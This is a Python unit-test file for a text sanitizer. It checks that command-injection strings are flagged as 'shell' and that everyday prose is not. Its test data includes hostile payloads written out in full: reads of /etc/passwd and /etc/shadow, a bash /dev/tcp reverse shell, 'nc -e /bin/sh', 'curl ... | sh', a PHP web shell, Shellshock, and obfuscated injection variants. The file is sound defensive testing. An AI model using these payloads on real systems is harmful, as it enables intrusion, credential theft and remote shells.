from __future__ import annotations

import pytest

from tests.unit.sanitize.families import families


@pytest.mark.parametrize(
    "text",
    [
        *(
            ";id",
            "; cat /etc/passwd",
            "| whoami",
            "|| ls -la",
            "&& uname -a",
            "& dir C:\\",
            "`id`",
            "$(id)",
            "x`whoami`",
        ),
        *(
            "\nid\n",
            "127.0.0.1; ping -c 4 127.0.0.1",
            "a;ls",
            "x|id",
            "'; cat /etc/passwd;'",
            "%0aid%0a",
            "; net user",
        ),
        *(
            ";c''at /etc/passwd",
            ";c\\at /etc/passwd",
            "|cat$IFS/etc/passwd",
            "{cat,/etc/passwd}",
            ";/b?n/c?t /etc/passwd",
        ),
        *(
            "$(curl http://x.example)",
            "; curl x.example|sh",
            "| bash -i >& /dev/tcp/1.2.3.4/9 0>&1",
            ";wget http://x/y",
        ),
        *(
            "() { :;}; /bin/bash -c id",
            '<!--#exec cmd="id"-->',
            "system('id')",
            "phpinfo()",
            "__import__('os').system('id')",
        ),
        *(
            "<?php system($_GET['c']); ?>",
            "T(java.lang.Runtime).getRuntime().exec('id')",
            "require('child_process')",
            "; sleep 5",
        ),
        *(
            "/bin/cat /etc/shadow",
            "cat /etc/passwd",
            "| nc -e /bin/sh 1.2.3.4 99",
            "& powershell -enc AAAA",
            ";./x",
            "|/tmp/x",
            "$(./x.sh)",
            "\n`cat /etc/passwd`",
            ";$a $b cat /etc/passwd",
            ";trap 'rm -rf x' EXIT",
            "; lastlog",
            "& FOR /F \"delims=\" %G IN ('SET') DO @Echo %G",
            "IF EXIST C:\\pagefile.sys (CMD) ELSE (CMD)",
            "& if 1 equ 1 echo x",
            "Doc1.pdf | Dir c:\\",
            ";if true; then id; fi",
            "& sc query",
            "& copy \\\\203.0.113.9\\s\\x.exe",
            "-O/tmp/x",
            "--output=/tmp/x http://203.0.113.9",
            "-exec id ;",
            ";cat .env",
            ";watch id",
            '; "ls" -la',
            ";{cp,a,b}",
            "x`{mv,a,b}`",
            "127.0.0.1&ls&",
            "&&shutdown now",
            ";which nc",
            ">/tmp/x",
            "a;: > /tmp/x",
            ";git clone https://x.example",
            ";jobs",
            "|ulimit -a",
            ";regedit HKLM\\Software",
            "';phpinfo();//",
        ),
    ],
)
def test_commands_are_found(text: str) -> None:
    assert "shell" in families(text)


@pytest.mark.parametrize(
    "text",
    [
        *(
            "Q&A; R&D; M&A",
            "the cat sat; the dog ran",
            "Tom & Jerry | Ben & Jerry",
            "name;id;date",
            "find the time; make a date",
        ),
        *(
            "run `ls -la` to list files",
            "a=1&id=2&sort=up",
            "date and time",
            "who is there?",
            "cat food",
            "sleep well & dream",
        ),
        *(
            "Mozilla/5.0 (X11; Linux x86_64; rv:1) Touch",
            "echo of the past; sleep well",
            "sort by price | more",
            "time.system (x)",
        ),
        *(
            "Use `git clone` or `make`; see the docs",
            "price: $(5)",
            "python 3.11 or later",
            "who & what",
            "&copy; 2024",
            "a&copy;b",
            "&date;",
            "a | b",
            "re-exec (now)",
            "java 8; python 3; ruby 2.7",
            "Linux; java 1.7.0_55; Europe/de",
            "npm install && npm start",
            "emacs vs vim; nano vs ed",
            "cd x and ./configure",
            "if it exists (see below)",
            "- exec summary",
            "> /home is where the heart is",
            "git pull; git push",
            "query;(id,name)",
            "a=1&id&b=2",
            "for sale; do not touch; done deal",
            "batch 5; batch 6",
            "R&D & date",
            "{cat,dog}",
            "Jack & Dir of C",
            "do this; then do that; we are done",
            "--output is an option",
            "for 5% in (total)",
        ),
    ],
)
def test_words_that_are_commands_too_are_left_alone_in_prose(text: str) -> None:
    assert families(text) == set()


def test_a_common_word_behind_a_separator_is_told_at_level_2() -> None:
    assert families("apples; date") == set()
    assert families("apples; date", paranoia=2) == {"shell"}
